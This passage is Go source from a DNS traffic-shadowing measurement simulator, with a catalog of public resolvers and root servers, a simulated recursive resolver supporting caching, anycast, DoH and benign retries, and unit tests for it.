	{"Baidu", wire.MustParseAddr("180.76.76.76"), "CN", 38365, "Baidu, Inc."},
	{"114DNS", wire.MustParseAddr("114.114.114.114"), "CN", 174001, "114DNS (Nanjing Xinfeng)"},
	{"Quad101", wire.MustParseAddr("101.101.101.101"), "TW", 3462, "TWNIC / HiNet"},
}

// ResolverH is the high-shadowing resolver set of Section 5.1 (the five
// destinations with the most problematic paths).
var ResolverH = []string{"Yandex", "114DNS", "OneDNS", "DNSPAI", "VERCARA"}

// IsResolverH reports whether name belongs to the Resolver_h set.
func IsResolverH(name string) bool {
	for _, r := range ResolverH {
		if r == name {
			return true
		}
	}
	return false
}

// RootServer is one root DNS server destination.
type RootServer struct {
	Name string
	Addr wire.Addr
}

// RootServers lists the 13 root servers (Table 4).
var RootServers = []RootServer{
	{"a.root", wire.MustParseAddr("198.41.0.4")},
	{"b.root", wire.MustParseAddr("170.247.170.2")},
	{"c.root", wire.MustParseAddr("192.33.4.12")},
	{"d.root", wire.MustParseAddr("199.7.91.13")},
	{"e.root", wire.MustParseAddr("192.203.230.10")},
	{"f.root", wire.MustParseAddr("192.5.5.241")},
	{"g.root", wire.MustParseAddr("192.112.36.4")},
	{"h.root", wire.MustParseAddr("198.97.190.53")},
	{"i.root", wire.MustParseAddr("192.36.148.17")},
	{"j.root", wire.MustParseAddr("192.58.128.30")},
	{"k.root", wire.MustParseAddr("193.0.14.129")},
	{"l.root", wire.MustParseAddr("199.7.83.42")},
	{"m.root", wire.MustParseAddr("202.12.27.33")},
}

// TLDServer is one top-level-domain authoritative destination.
type TLDServer struct {
	Zone string
	Addr wire.Addr
}

// TLDServers lists the two TLD authoritative destinations (Table 4).
var TLDServers = []TLDServer{
	{"com", wire.MustParseAddr("192.12.94.30")},
	{"org", wire.MustParseAddr("199.19.57.1")},
}
