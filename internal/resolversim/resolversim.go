// Package resolversim implements the DNS server fleet decoys are sent to:
// recursive public resolvers (with caching, benign retries, anycast
// instances, and optional shadowing exhibitors at the destination), plus
// root and TLD authoritative servers that answer with referrals.
//
// Resolver-side shadowing is the dominant mode the paper measures for DNS
// decoys (99.7% of observers located at the destination, Table 2), so the
// exhibitor hook lives in the query path: after answering the client
// authentically, an instance may hand the query name to its
// observer.Exhibitor, which schedules unsolicited requests.
package resolversim

import (
	"sort"
	"strings"
	"sync"
	"time"

	"shadowmeter/internal/dnswire"
	"shadowmeter/internal/geodb"
	"shadowmeter/internal/httpwire"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/wire"
)

// DomainObserver receives domains sniffed from resolved queries —
// destination-side traffic shadowing. It is satisfied by
// *observer.Exhibitor; an interface here keeps the resolver fleet free of
// behavioral policy.
type DomainObserver interface {
	ObserveDomain(n *netsim.Network, domain string)
}

// QueryObserver is an optional refinement of DomainObserver: exhibitors
// whose behavior depends on the querying client (e.g. shadowing only a
// subset of client paths) receive the client address too. When an
// Instance's Exhibitor implements QueryObserver, it is preferred.
type QueryObserver interface {
	ObserveQuery(n *netsim.Network, domain string, client wire.Addr)
}

// Registry maps zones to their authoritative server addresses — the
// simulator's delegation tree. The honeypot registers the experiment zone
// here; recursion consults it.
type Registry struct {
	mu    sync.RWMutex
	zones map[string]wire.Addr
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{zones: make(map[string]wire.Addr)}
}

// Delegate registers auth as authoritative for zone and everything below.
func (r *Registry) Delegate(zone string, auth wire.Addr) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.zones[dnswire.Canonical(zone)] = auth
}

// AuthFor finds the most specific zone covering name.
func (r *Registry) AuthFor(name string) (zone string, auth wire.Addr, ok bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	name = dnswire.Canonical(name)
	for n := name; ; {
		if a, found := r.zones[n]; found {
			return n, a, true
		}
		i := strings.IndexByte(n, '.')
		if i < 0 {
			break
		}
		n = n[i+1:]
	}
	return "", wire.Addr{}, false
}

// Zones lists registered zones, sorted.
func (r *Registry) Zones() []string {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]string, 0, len(r.zones))
	for z := range r.zones {
		out = append(out, z)
	}
	sort.Strings(out)
	return out
}

// Instance is one deployment site of an anycast resolver service. Client
// queries are routed to the instance whose Countries set contains the
// client's country; the Default instance takes the rest.
type Instance struct {
	Name      string
	Countries map[string]bool // client countries served; nil on the default
	// Egress hosts send upstream queries to authoritative servers. Several
	// egresses model operators that spread resolution over multiple
	// networks ("diversified flows of data", Figure 6 discussion).
	Egress []*netsim.Host
	// Exhibitor, when non-nil, receives every query name this instance
	// resolves — destination-side traffic shadowing. observer.Exhibitor
	// satisfies this interface.
	Exhibitor DomainObserver
	// ExtraRetries issues N duplicate upstream queries moments after the
	// original — the benign "implementation choice" retries that dominate
	// sub-minute DNS-DNS shadowing in Figure 4.
	ExtraRetries int
	// RetryProb is the per-query probability that the duplicates are
	// issued at all (1 when unset and ExtraRetries > 0 would retry every
	// query, which would make every path to every resolver problematic —
	// real resolvers retry situationally). Negative disables retries.
	RetryProb float64
	// RetryDelay spaces the duplicates; zero means 2s.
	RetryDelay time.Duration

	cache map[cacheKey]cacheEntry
}

type cacheKey struct {
	name  string
	qtype uint16
}

type cacheEntry struct {
	answers []dnswire.RR
	rcode   uint8
	expires time.Time
}

// Service is one public resolver: a service address plus instances.
type Service struct {
	Name string
	Addr wire.Addr

	host      *netsim.Host
	geo       *geodb.DB
	registry  *Registry
	instances []*Instance
	def       *Instance

	mu      sync.Mutex
	stats   ServiceStats
	clients map[wire.Addr]bool

	// enc is reply-encode scratch: handlers run on the world's single
	// event-loop goroutine and every reply is copied into its packet (or
	// HTTP envelope) before the next encode, so one encoder per service is
	// safe. Upstream queries captured by retry closures still use Encode.
	//
	//shadowlint:eventloop
	enc dnswire.Encoder
	// upq is upstream-query scratch under the same single-goroutine
	// contract: the Message is serialized (into a fresh, ownable payload
	// buffer) before recurse/recurseDoH return, so nothing retains it.
	//
	//shadowlint:eventloop
	upq dnswire.Message
}

// ServiceStats counts resolver activity.
type ServiceStats struct {
	Queries       int64
	DoHQueries    int64
	CacheHits     int64
	Upstream      int64
	ServFails     int64
	RetriesIssued int64
}

// NewService creates a resolver service listening on addr (UDP/53). The
// first instance added becomes the default.
func NewService(n *netsim.Network, name string, addr wire.Addr, registry *Registry, geo *geodb.DB) *Service {
	s := &Service{Name: name, Addr: addr, geo: geo, registry: registry, clients: make(map[wire.Addr]bool)}
	s.host = netsim.NewHost(n, addr)
	s.host.ServeUDP(53, s.handleQuery)
	return s
}

// EnableDoH serves DNS-over-HTTPS on the resolver's port 443: a POST to
// /dns-query whose body is a wire-format DNS message (RFC 8484). The
// transport stands in for the encrypted channel — on-path observers
// parsing port-443 traffic as TLS extract nothing, and the HTTP envelope
// names the resolver, not the query — while the destination decodes the
// message and (if shadowing) retains the name, exactly the limitation the
// paper's Discussion points out for encrypted DNS.
func (s *Service) EnableDoH() {
	s.host.ServeTCP(443, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		req, err := httpwire.ParseRequest(payload)
		if err != nil || req.Method != "POST" || req.Path != "/dns-query" {
			return httpwire.NewResponse(400, "bad DoH request").Encode()
		}
		s.mu.Lock()
		s.stats.DoHQueries++
		s.mu.Unlock()
		// The inner DNS exchange reuses the UDP handler; the response (when
		// answered synchronously from cache) wraps back into HTTP. For
		// recursion, the client is answered over a direct DoH push.
		resp := s.handleDoHQuery(n, from, req.Body)
		if resp == nil {
			return nil
		}
		return dohResponse(resp)
	})
}

// handleDoHQuery mirrors handleQuery, but replies through an HTTP wrapper.
func (s *Service) handleDoHQuery(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
	q, err := dnswire.Decode(payload)
	if err != nil || q.Header.QR || len(q.Questions) == 0 {
		return nil
	}
	s.mu.Lock()
	s.stats.Queries++
	s.clients[from.Addr] = true
	s.mu.Unlock()
	inst := s.instanceFor(from.Addr)
	if inst == nil {
		resp := dnswire.NewResponse(q, dnswire.RcodeServFail)
		raw, err := resp.AppendEncode(&s.enc)
		if err != nil {
			return nil
		}
		return raw
	}
	if inst.Exhibitor != nil {
		if qo, ok := inst.Exhibitor.(QueryObserver); ok {
			qo.ObserveQuery(n, q.QName(), from.Addr)
		} else {
			inst.Exhibitor.ObserveDomain(n, q.QName())
		}
	}
	key := cacheKey{q.QName(), q.QType()}
	if entry, ok := inst.cache[key]; ok && n.Now().Before(entry.expires) {
		s.mu.Lock()
		s.stats.CacheHits++
		s.mu.Unlock()
		resp := dnswire.NewResponse(q, entry.rcode)
		resp.Answers = append(resp.Answers, entry.answers...)
		raw, err := resp.AppendEncode(&s.enc)
		if err != nil {
			return nil
		}
		return raw
	}
	s.recurseDoH(n, inst, q, from)
	return nil
}

// recurseDoH resolves upstream and pushes the HTTP-wrapped answer back to
// the DoH client.
func (s *Service) recurseDoH(n *netsim.Network, inst *Instance, q *dnswire.Message, client wire.Endpoint) {
	_, auth, ok := s.registry.AuthFor(q.QName())
	if !ok || len(inst.Egress) == 0 {
		s.mu.Lock()
		s.stats.ServFails++
		s.mu.Unlock()
		s.pushDoH(n, client, q, dnswire.RcodeServFail, nil)
		return
	}
	s.mu.Lock()
	s.stats.Upstream++
	s.mu.Unlock()
	egress := inst.Egress[int(q.Header.ID)%len(inst.Egress)]
	upstream := &s.upq
	dnswire.QueryInto(upstream, q.Header.ID, q.QName(), q.QType())
	upstream.Header.RD = false
	upPayload, err := upstream.Encode()
	if err != nil {
		return
	}
	egress.SendUDPRequest(n, wire.Endpoint{Addr: auth, Port: 53}, upPayload, netsim.UDPRequestOpts{
		Timeout: 3 * time.Second,
		OnReply: func(n *netsim.Network, resp []byte) {
			msg, err := dnswire.Decode(resp)
			if err != nil {
				s.pushDoH(n, client, q, dnswire.RcodeServFail, nil)
				return
			}
			ttl := time.Hour
			if len(msg.Answers) > 0 {
				ttl = time.Duration(msg.Answers[0].TTL) * time.Second
			}
			inst.cache[cacheKey{q.QName(), q.QType()}] = cacheEntry{
				answers: msg.Answers, rcode: msg.Header.Rcode, expires: n.Now().Add(ttl),
			}
			s.pushDoH(n, client, q, msg.Header.Rcode, msg.Answers)
		},
		OnTimeout: func(n *netsim.Network) {
			s.pushDoH(n, client, q, dnswire.RcodeServFail, nil)
		},
	})
}

// pushDoH sends the HTTP-wrapped DNS answer as a TCP data packet from the
// resolver's 443 back to the DoH client.
func (s *Service) pushDoH(n *netsim.Network, client wire.Endpoint, q *dnswire.Message, rcode uint8, answers []dnswire.RR) {
	resp := dnswire.NewResponse(q, rcode)
	resp.Answers = append(resp.Answers, answers...)
	raw, err := resp.AppendEncode(&s.enc)
	if err != nil {
		return
	}
	body := dohResponse(raw)
	pkt, err := wire.BuildTCP(wire.Endpoint{Addr: s.Addr, Port: 443}, client, 64, 0,
		wire.TCPPsh|wire.TCPAck|wire.TCPFin, 1, 1, body)
	if err != nil {
		return
	}
	n.InjectOwned(pkt)
}

// dohResponse wraps a DNS message in the RFC 8484 HTTP envelope.
func dohResponse(dnsMsg []byte) []byte {
	resp := httpwire.NewResponse(200, string(dnsMsg))
	resp.Headers["content-type"] = "application/dns-message"
	return resp.Encode()
}

// AddInstance attaches a deployment site. Instances added first win country
// ties; an instance with nil Countries becomes the default.
func (s *Service) AddInstance(inst *Instance) {
	inst.cache = make(map[cacheKey]cacheEntry)
	if inst.RetryDelay == 0 {
		inst.RetryDelay = 2 * time.Second
	}
	s.instances = append(s.instances, inst)
	if inst.Countries == nil && s.def == nil {
		s.def = inst
	}
}

// Stats snapshots the counters.
func (s *Service) Stats() ServiceStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.stats
}

// DistinctClients reports how many distinct source addresses this resolver
// has seen — the operator's view of message *origin*. Oblivious transports
// collapse it to the proxy's address set, which is exactly the privacy
// property ODoH buys (ground truth for the mitigation study).
func (s *Service) DistinctClients() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.clients)
}

// instanceFor picks the anycast site serving a client address.
func (s *Service) instanceFor(client wire.Addr) *Instance {
	country := s.geo.Country(client)
	for _, inst := range s.instances {
		if inst.Countries != nil && inst.Countries[country] {
			return inst
		}
	}
	return s.def
}

// handleQuery is the UDP/53 service entry point.
func (s *Service) handleQuery(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
	q, err := dnswire.Decode(payload)
	if err != nil || q.Header.QR || len(q.Questions) == 0 {
		return nil
	}
	s.mu.Lock()
	s.stats.Queries++
	s.clients[from.Addr] = true
	s.mu.Unlock()

	inst := s.instanceFor(from.Addr)
	if inst == nil {
		resp := dnswire.NewResponse(q, dnswire.RcodeServFail)
		raw, err := resp.AppendEncode(&s.enc)
		if err != nil {
			return nil
		}
		return raw
	}

	// Destination-side shadowing: the instance records the query name
	// regardless of how resolution proceeds.
	if inst.Exhibitor != nil {
		if qo, ok := inst.Exhibitor.(QueryObserver); ok {
			qo.ObserveQuery(n, q.QName(), from.Addr)
		} else {
			inst.Exhibitor.ObserveDomain(n, q.QName())
		}
	}

	key := cacheKey{q.QName(), q.QType()}
	if entry, ok := inst.cache[key]; ok && n.Now().Before(entry.expires) {
		s.mu.Lock()
		s.stats.CacheHits++
		s.mu.Unlock()
		resp := dnswire.NewResponse(q, entry.rcode)
		resp.Answers = append(resp.Answers, entry.answers...)
		raw, err := resp.AppendEncode(&s.enc)
		if err != nil {
			return nil
		}
		return raw
	}

	// Recurse asynchronously: reply to the client when the authoritative
	// answer returns. Returning nil here suppresses the synchronous reply.
	s.recurse(n, inst, q, from)
	return nil
}

func (s *Service) recurse(n *netsim.Network, inst *Instance, q *dnswire.Message, client wire.Endpoint) {
	_, auth, ok := s.registry.AuthFor(q.QName())
	if !ok || len(inst.Egress) == 0 {
		s.mu.Lock()
		s.stats.ServFails++
		s.mu.Unlock()
		s.replyToClient(n, client, q, dnswire.RcodeServFail, nil)
		return
	}
	s.mu.Lock()
	s.stats.Upstream++
	s.mu.Unlock()

	egress := inst.Egress[int(q.Header.ID)%len(inst.Egress)]
	upstream := &s.upq
	dnswire.QueryInto(upstream, q.Header.ID, q.QName(), q.QType())
	upstream.Header.RD = false
	upPayload, err := upstream.Encode()
	if err != nil {
		return
	}
	answered := false
	egress.SendUDPRequest(n, wire.Endpoint{Addr: auth, Port: 53}, upPayload, netsim.UDPRequestOpts{
		Timeout: 3 * time.Second,
		OnReply: func(n *netsim.Network, resp []byte) {
			answered = true
			msg, err := dnswire.Decode(resp)
			if err != nil {
				s.replyToClient(n, client, q, dnswire.RcodeServFail, nil)
				return
			}
			ttl := time.Hour
			if len(msg.Answers) > 0 {
				ttl = time.Duration(msg.Answers[0].TTL) * time.Second
			}
			inst.cache[cacheKey{q.QName(), q.QType()}] = cacheEntry{
				answers: msg.Answers, rcode: msg.Header.Rcode,
				expires: n.Now().Add(ttl),
			}
			s.replyToClient(n, client, q, msg.Header.Rcode, msg.Answers)
		},
		OnTimeout: func(n *netsim.Network) {
			if !answered {
				s.mu.Lock()
				s.stats.ServFails++
				s.mu.Unlock()
				s.replyToClient(n, client, q, dnswire.RcodeServFail, nil)
			}
		},
	})

	// Benign duplicate upstream queries (implementation choice). These are
	// the packets APNIC saw as "DNS zombies" within the first minute.
	if inst.RetryProb < 0 {
		return
	}
	if inst.RetryProb > 0 && inst.RetryProb < 1 {
		// Deterministic per-query coin derived from the query name, so
		// repeated runs are reproducible.
		h := uint32(2166136261)
		for i := 0; i < len(q.QName()); i++ {
			h = (h ^ uint32(q.QName()[i])) * 16777619
		}
		if float64(h%10000) >= inst.RetryProb*10000 {
			return
		}
	}
	for i := 0; i < inst.ExtraRetries; i++ {
		delay := inst.RetryDelay * time.Duration(i+1)
		n.Schedule(delay, func() {
			s.mu.Lock()
			s.stats.RetriesIssued++
			s.mu.Unlock()
			egress.SendUDPRequest(n, wire.Endpoint{Addr: auth, Port: 53}, upPayload, netsim.UDPRequestOpts{
				Timeout: 3 * time.Second,
			})
		})
	}
}

func (s *Service) replyToClient(n *netsim.Network, client wire.Endpoint, q *dnswire.Message, rcode uint8, answers []dnswire.RR) {
	resp := dnswire.NewResponse(q, rcode)
	resp.Answers = append(resp.Answers, answers...)
	raw, err := resp.AppendEncode(&s.enc)
	if err != nil {
		return
	}
	pkt, err := wire.BuildUDP(wire.Endpoint{Addr: s.Addr, Port: 53}, client, 64, 0, raw)
	if err != nil {
		return
	}
	n.InjectOwned(pkt)
}

// ReferralServer is a root or TLD authoritative server: it answers every
// query with a referral (authority NS record) and never shadows. Decoys
// sent directly to roots/TLDs get authentic responses and, per the paper,
// trigger nothing.
type ReferralServer struct {
	Name string
	Zone string // zone it speaks for ("" = root)

	mu      sync.Mutex
	queries int64

	// enc is reply-encode scratch; see Service.enc for why this is safe.
	//
	//shadowlint:eventloop
	enc dnswire.Encoder
}

// NewReferralServer registers a referral server on addr.
func NewReferralServer(n *netsim.Network, name, zone string, addr wire.Addr) *ReferralServer {
	rs := &ReferralServer{Name: name, Zone: zone}
	host := netsim.NewHost(n, addr)
	host.ServeUDP(53, rs.handle)
	return rs
}

// Queries reports how many queries arrived.
func (rs *ReferralServer) Queries() int64 {
	rs.mu.Lock()
	defer rs.mu.Unlock()
	return rs.queries
}

func (rs *ReferralServer) handle(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
	q, err := dnswire.Decode(payload)
	if err != nil || q.Header.QR || len(q.Questions) == 0 {
		return nil
	}
	rs.mu.Lock()
	rs.queries++
	rs.mu.Unlock()
	resp := dnswire.NewResponse(q, dnswire.RcodeNoError)
	resp.Header.AA = false
	// Refer one level down from our zone toward the query name.
	child := referralChild(q.QName(), rs.Zone)
	resp.Authority = append(resp.Authority, dnswire.RR{
		Name: child, Type: dnswire.TypeNS, TTL: 172800, Target: "ns1." + child,
	})
	raw, err := resp.AppendEncode(&rs.enc)
	if err != nil {
		return nil
	}
	return raw
}

// referralChild computes the zone one label below zone on the way to name
// (e.g. name "a.b.example.com", zone "com" -> "example.com").
func referralChild(name, zone string) string {
	name, zone = dnswire.Canonical(name), dnswire.Canonical(zone)
	if !dnswire.IsSubdomain(name, zone) || name == zone {
		return name
	}
	suffixLen := len(zone)
	head := name
	if suffixLen > 0 {
		head = name[:len(name)-suffixLen-1]
	}
	if i := strings.LastIndexByte(head, '.'); i >= 0 {
		head = head[i+1:]
	}
	if zone == "" {
		return head
	}
	return head + "." + zone
}
