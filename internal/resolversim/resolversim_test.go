package resolversim

import (
	"testing"
	"time"

	"shadowmeter/internal/dnswire"
	"shadowmeter/internal/geodb"
	"shadowmeter/internal/httpwire"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/wire"
)

var t0 = time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)

// testWorld builds a flat network (no routers) with a geo DB.
func testWorld() (*netsim.Network, *geodb.DB) {
	n := netsim.New(netsim.Config{Start: t0})
	geo := geodb.New()
	return n, geo
}

func TestRegistryLongestMatch(t *testing.T) {
	r := NewRegistry()
	a1 := wire.MustParseAddr("10.0.0.1")
	a2 := wire.MustParseAddr("10.0.0.2")
	r.Delegate("domain", a1)
	r.Delegate("experiment.domain", a2)
	zone, auth, ok := r.AuthFor("abc.www.experiment.domain")
	if !ok || zone != "experiment.domain" || auth != a2 {
		t.Errorf("AuthFor = %q %v %v", zone, auth, ok)
	}
	zone, auth, ok = r.AuthFor("other.domain")
	if !ok || zone != "domain" || auth != a1 {
		t.Errorf("AuthFor = %q %v %v", zone, auth, ok)
	}
	if _, _, ok := r.AuthFor("unknown.tld"); ok {
		t.Error("unknown zone should miss")
	}
	if got := r.Zones(); len(got) != 2 || got[0] != "domain" {
		t.Errorf("Zones = %v", got)
	}
}

// buildResolver wires a service with one instance and a stub authoritative
// server; returns (service, authQueries counter, client host).
func buildResolver(n *netsim.Network, geo *geodb.DB, retries int) (*Service, *int, *netsim.Host) {
	registry := NewRegistry()
	authAddr := wire.MustParseAddr("198.51.100.53")
	authQueries := new(int)
	auth := netsim.NewHost(n, authAddr)
	auth.ServeUDP(53, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		*authQueries++
		q, err := dnswire.Decode(payload)
		if err != nil {
			return nil
		}
		resp := dnswire.NewResponse(q, dnswire.RcodeNoError)
		resp.Header.AA = true
		resp.Answers = append(resp.Answers, dnswire.RR{
			Name: q.QName(), Type: dnswire.TypeA, TTL: 3600, Addr: wire.MustParseAddr("203.0.113.10"),
		})
		raw, _ := resp.Encode()
		return raw
	})
	registry.Delegate("experiment.domain", authAddr)

	svcAddr := wire.MustParseAddr("77.88.8.8")
	svc := NewService(n, "Yandex", svcAddr, registry, geo)
	egress := netsim.NewHost(n, wire.MustParseAddr("77.88.9.1"))
	svc.AddInstance(&Instance{Name: "default", Egress: []*netsim.Host{egress}, ExtraRetries: retries})

	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.1"))
	return svc, authQueries, client
}

func queryViaClient(t *testing.T, n *netsim.Network, client *netsim.Host, resolver wire.Addr, name string) *dnswire.Message {
	t.Helper()
	q := dnswire.NewQuery(0x42, name, dnswire.TypeA)
	payload, err := q.Encode()
	if err != nil {
		t.Fatal(err)
	}
	var got *dnswire.Message
	client.SendUDPRequest(n, wire.Endpoint{Addr: resolver, Port: 53}, payload, netsim.UDPRequestOpts{
		Timeout: 30 * time.Second,
		OnReply: func(n *netsim.Network, resp []byte) {
			m, err := dnswire.Decode(resp)
			if err != nil {
				t.Errorf("bad response: %v", err)
				return
			}
			got = m
		},
	})
	n.RunUntilIdle()
	return got
}

func TestRecursiveResolution(t *testing.T) {
	n, geo := testWorld()
	svc, authQueries, client := buildResolver(n, geo, 0)
	resp := queryViaClient(t, n, client, svc.Addr, "abc.www.experiment.domain")
	if resp == nil {
		t.Fatal("no response")
	}
	if resp.Header.Rcode != dnswire.RcodeNoError || len(resp.Answers) != 1 {
		t.Fatalf("response = %+v", resp)
	}
	if resp.Answers[0].Addr != wire.MustParseAddr("203.0.113.10") {
		t.Errorf("A = %v", resp.Answers[0].Addr)
	}
	if *authQueries != 1 {
		t.Errorf("auth queries = %d, want 1", *authQueries)
	}
	if s := svc.Stats(); s.Queries != 1 || s.Upstream != 1 {
		t.Errorf("stats = %+v", s)
	}
}

func TestResolverCache(t *testing.T) {
	n, geo := testWorld()
	svc, authQueries, client := buildResolver(n, geo, 0)
	queryViaClient(t, n, client, svc.Addr, "cached.www.experiment.domain")
	queryViaClient(t, n, client, svc.Addr, "cached.www.experiment.domain")
	if *authQueries != 1 {
		t.Errorf("auth queries = %d, want 1 (second answered from cache)", *authQueries)
	}
	if s := svc.Stats(); s.CacheHits != 1 {
		t.Errorf("stats = %+v", s)
	}
}

func TestResolverBenignRetries(t *testing.T) {
	n, geo := testWorld()
	svc, authQueries, client := buildResolver(n, geo, 2)
	queryViaClient(t, n, client, svc.Addr, "retry.www.experiment.domain")
	// Initial upstream + 2 duplicates = 3 auth arrivals — the "DNS zombie"
	// pattern within the first minute.
	if *authQueries != 3 {
		t.Errorf("auth queries = %d, want 3", *authQueries)
	}
	if s := svc.Stats(); s.RetriesIssued != 2 {
		t.Errorf("stats = %+v", s)
	}
	_ = svc
}

func TestResolverServfailOnUnknownZone(t *testing.T) {
	n, geo := testWorld()
	svc, _, client := buildResolver(n, geo, 0)
	resp := queryViaClient(t, n, client, svc.Addr, "www.unknown-zone.tld")
	if resp == nil {
		t.Fatal("no response")
	}
	if resp.Header.Rcode != dnswire.RcodeServFail {
		t.Errorf("rcode = %d, want SERVFAIL", resp.Header.Rcode)
	}
}

func TestAnycastInstanceSelection(t *testing.T) {
	n, geo := testWorld()
	// Two client networks: CN and US.
	geo.Register(wire.MustParseAddr("100.64.0.0"), 24, geodb.Info{Country: "US", ASN: 1})
	geo.Register(wire.MustParseAddr("100.65.0.0"), 24, geodb.Info{Country: "CN", ASN: 2})

	registry := NewRegistry()
	authAddr := wire.MustParseAddr("198.51.100.53")
	auth := netsim.NewHost(n, authAddr)
	auth.ServeUDP(53, func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		q, _ := dnswire.Decode(payload)
		resp := dnswire.NewResponse(q, dnswire.RcodeNoError)
		resp.Answers = append(resp.Answers, dnswire.RR{Name: q.QName(), Type: dnswire.TypeA, TTL: 60, Addr: wire.MustParseAddr("203.0.113.10")})
		raw, _ := resp.Encode()
		return raw
	})
	registry.Delegate("experiment.domain", authAddr)

	svc := NewService(n, "114DNS", wire.MustParseAddr("114.114.114.114"), registry, geo)
	cnEgress := netsim.NewHost(n, wire.MustParseAddr("114.114.115.1"))
	usEgress := netsim.NewHost(n, wire.MustParseAddr("114.114.116.1"))
	svc.AddInstance(&Instance{Name: "us-default", Egress: []*netsim.Host{usEgress}})
	svc.AddInstance(&Instance{Name: "cn", Countries: map[string]bool{"CN": true}, Egress: []*netsim.Host{cnEgress}})

	usClient := netsim.NewHost(n, wire.MustParseAddr("100.64.0.10"))
	cnClient := netsim.NewHost(n, wire.MustParseAddr("100.65.0.10"))

	if got := svc.instanceFor(usClient.Addr); got.Name != "us-default" {
		t.Errorf("US client routed to %q", got.Name)
	}
	if got := svc.instanceFor(cnClient.Addr); got.Name != "cn" {
		t.Errorf("CN client routed to %q", got.Name)
	}
	// Both resolve successfully end to end.
	if resp := queryViaClient(t, n, usClient, svc.Addr, "a.www.experiment.domain"); resp == nil || len(resp.Answers) != 1 {
		t.Error("US client resolution failed")
	}
	if resp := queryViaClient(t, n, cnClient, svc.Addr, "b.www.experiment.domain"); resp == nil || len(resp.Answers) != 1 {
		t.Error("CN client resolution failed")
	}
}

func TestReferralServer(t *testing.T) {
	n, _ := testWorld()
	root := NewReferralServer(n, "a.root", "", wire.MustParseAddr("198.41.0.4"))
	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.1"))
	resp := queryViaClient(t, n, client, wire.MustParseAddr("198.41.0.4"), "abc.www.experiment.domain")
	if resp == nil {
		t.Fatal("no referral response")
	}
	if len(resp.Authority) != 1 || resp.Authority[0].Type != dnswire.TypeNS {
		t.Fatalf("authority = %+v", resp.Authority)
	}
	if resp.Authority[0].Name != "domain" {
		t.Errorf("root referral = %q, want \"domain\"", resp.Authority[0].Name)
	}
	if root.Queries() != 1 {
		t.Errorf("queries = %d", root.Queries())
	}
}

func TestReferralChild(t *testing.T) {
	cases := []struct {
		name, zone, want string
	}{
		{"a.b.example.com", "com", "example.com"},
		{"abc.www.experiment.domain", "", "domain"},
		{"example.com", "com", "example.com"},
		{"com", "com", "com"},
		{"unrelated.org", "com", "unrelated.org"},
	}
	for _, tc := range cases {
		if got := referralChild(tc.name, tc.zone); got != tc.want {
			t.Errorf("referralChild(%q, %q) = %q, want %q", tc.name, tc.zone, got, tc.want)
		}
	}
}

func TestCatalogIntegrity(t *testing.T) {
	if len(PublicResolvers) != 20 {
		t.Errorf("public resolvers = %d, want 20", len(PublicResolvers))
	}
	if len(RootServers) != 13 {
		t.Errorf("root servers = %d, want 13", len(RootServers))
	}
	if len(TLDServers) != 2 {
		t.Errorf("TLD servers = %d, want 2", len(TLDServers))
	}
	seen := make(map[wire.Addr]bool)
	for _, r := range PublicResolvers {
		if seen[r.Addr] {
			t.Errorf("duplicate resolver address %v", r.Addr)
		}
		seen[r.Addr] = true
	}
	for _, name := range ResolverH {
		found := false
		for _, r := range PublicResolvers {
			if r.Name == name {
				found = true
			}
		}
		if !found {
			t.Errorf("Resolver_h member %q missing from catalog", name)
		}
	}
	if !IsResolverH("Yandex") || IsResolverH("Google") {
		t.Error("IsResolverH misclassifies")
	}
}

func TestDoHEndToEnd(t *testing.T) {
	n, geo := testWorld()
	svc, authQueries, _ := buildResolver(n, geo, 0)
	svc.EnableDoH()

	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.7"))
	q := dnswire.NewQuery(0x31, "doh-test.www.experiment.domain", dnswire.TypeA)
	inner, _ := q.Encode()
	req := &httpwire.Request{
		Method: "POST", Path: "/dns-query",
		Headers: map[string]string{"host": "doh.resolver.example", "content-type": "application/dns-message"},
		Body:    inner,
	}
	var answer *dnswire.Message
	client.SendTCPRequest(n, wire.Endpoint{Addr: svc.Addr, Port: 443}, req.Encode(), netsim.TCPRequestOpts{
		Timeout: 30 * time.Second,
		OnResponse: func(n *netsim.Network, payload []byte) {
			resp, err := httpwire.ParseResponse(payload)
			if err != nil {
				t.Errorf("bad DoH envelope: %v", err)
				return
			}
			if resp.Headers["content-type"] != "application/dns-message" {
				t.Errorf("content-type = %q", resp.Headers["content-type"])
			}
			answer, _ = dnswire.Decode(resp.Body)
		},
	})
	n.RunUntilIdle()
	if answer == nil {
		t.Fatal("no DoH answer")
	}
	if answer.Header.Rcode != dnswire.RcodeNoError || len(answer.Answers) != 1 {
		t.Fatalf("answer = %+v", answer)
	}
	if *authQueries != 1 {
		t.Errorf("auth queries = %d, want 1 (DoH recursion)", *authQueries)
	}
	if svc.Stats().DoHQueries != 1 {
		t.Errorf("stats = %+v", svc.Stats())
	}
}

func TestDoHRejectsNonQuery(t *testing.T) {
	n, geo := testWorld()
	svc, _, _ := buildResolver(n, geo, 0)
	svc.EnableDoH()
	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.8"))
	var status int
	client.SendTCPRequest(n, wire.Endpoint{Addr: svc.Addr, Port: 443}, httpwire.NewGET("x", "/dns-query").Encode(), netsim.TCPRequestOpts{
		Timeout: 5 * time.Second,
		OnResponse: func(n *netsim.Network, payload []byte) {
			if r, err := httpwire.ParseResponse(payload); err == nil {
				status = r.StatusCode
			}
		},
	})
	n.RunUntilIdle()
	if status != 400 {
		t.Errorf("GET /dns-query status = %d, want 400", status)
	}
}

func TestObliviousProxyRelay(t *testing.T) {
	n, geo := testWorld()
	svc, authQueries, _ := buildResolver(n, geo, 0)
	svc.EnableDoH()
